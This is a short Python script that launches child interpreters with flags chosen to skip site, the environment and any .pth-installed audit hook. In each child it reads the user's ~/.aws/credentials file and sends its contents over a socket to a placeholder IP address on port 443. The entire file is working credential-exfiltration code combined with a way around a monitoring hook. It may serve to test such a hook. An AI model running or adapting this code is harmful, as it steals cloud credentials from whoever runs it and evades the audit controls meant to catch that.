# Do the work in child interpreters started without site (-S), isolated
# (-I) and without the environment (-E): no .pth line, no PYTHONPATH, so
# no audit hook, it hopes. Each reads the AWS credentials and connects
# out with them.
import subprocess, sys

child = r"""
import os, socket, sys
creds = open(os.path.expanduser("~/.aws/credentials")).read()
s = socket.socket()
s.settimeout(2)
try:
    s.connect(("203.0.113.21", 443))
    s.sendall(creds.encode())
except OSError as e:
    print("connect failed:", e)
print(" ".join(sys.argv[1:]), "no_site", sys.flags.no_site)
"""
for flags in (["-S", "-I", "-E"], ["-S"], ["-I"]):
    subprocess.run([sys.executable, *flags, "-c", child, *flags], timeout=60)
